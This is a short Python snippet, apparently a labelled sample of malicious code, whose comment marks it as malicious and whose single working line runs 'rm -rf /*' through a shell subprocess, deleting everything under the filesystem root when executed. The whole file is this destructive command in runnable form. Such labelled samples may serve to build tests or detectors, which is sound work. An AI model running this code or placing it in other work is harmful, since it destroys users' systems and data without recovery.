# Malicious: `rm -rf /*` through a shell subprocess; deletes every top-level directory.
import subprocess

subprocess.run("rm -rf /*", shell=True, check=False)
